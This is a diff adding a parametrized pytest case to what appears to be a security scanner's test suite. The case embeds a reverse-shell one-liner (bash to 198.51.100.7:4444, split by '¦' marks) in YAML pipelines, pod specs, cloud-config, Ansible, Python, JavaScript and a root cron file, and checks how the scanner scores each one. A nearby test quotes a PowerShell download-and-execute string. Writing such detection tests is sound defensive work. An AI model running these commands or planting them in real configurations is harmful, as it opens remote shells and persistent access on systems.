@@ -72,6 +72,34 @@ def test_code_that_a_document_shows_is_worth_a_note() -> None:
     assert scores == {"srv/mine.md": [65], "srv/mine.json": [88]}
 
 
+QUOTED = "ba¦sh -i >& /dev/¦tcp/198.51.100.7/4444 0>&1"
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "score"),
+    [
+        ("srv/patterns.yaml", "categories:\n  - name: reverse_shell\n    patterns:\n      - '{}'\n", 65),
+        ("srv/rules.yml", "title: Reverse shell\ndetection:\n  keywords:\n    - '{}'\n", 65),
+        ("srv/ci.yml", "on: push\njobs:\n  a:\n    steps:\n    - run: {}\n", 80),
+        ("srv/pod.yaml", "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - command: ['bash', '-c', '{}']\n", 80),
+        ("srv/a.yaml", "services:\n  a:\n    command: bash -c '{}'\n", 80),
+        ("srv/user.yml", "#cloud-config\nruncmd:\n- {}\n", 80),
+        ("srv/tasks/main.yml", "- name: a\n  shell: {}\n", 80),
+        ("srv/values.yaml", "args: ['{}']\n", 80),
+        ("srv/test_guard.py", "BAD = ['{}']\ndef test_bad():\n    assert is_bad(BAD[0])\n", 65),
+        ("srv/guard.test.js", "it.each(['{}'])('blocks %s', (c) => expect(blocked(c)).toBe(true));\n", 65),
+        ("srv/a.py", "import os\nos.system('{}')\n", 80),
+        ("srv/a.py", "import requests\nrequests.post(target, data={{'cmd': '{}'}})\n", 80),
+        ("srv/a.py", "open('/etc/cron.d/a', 'w').write('* * * * * root {}')\n", 80),
+        ("srv/a.js", "require('child_process').exec('{}')\n", 80),
+        ("srv/a", "{}\n", 80),
+    ],
+)
+def test_commands_that_are_only_quoted_are_worth_a_note(path: str, text: str, score: int) -> None:
+    hits = scanned().scan(content(text.format(QUOTED)), ("script",), path, text=True)[0]
+    assert [hit.score for hit in hits if hit.rule == "reverse_shell_of_a_shell"] == [score]
+
+
 def test_a_known_installer_is_worth_a_note() -> None:
     script = "ie¦x ((New-Object Net.WebClient).Downlo¦adString('https://{}/install.ps1'))\n"
     addresses = ("community.chocolatey.org", "a.example", "a.example/community.chocolatey.org")
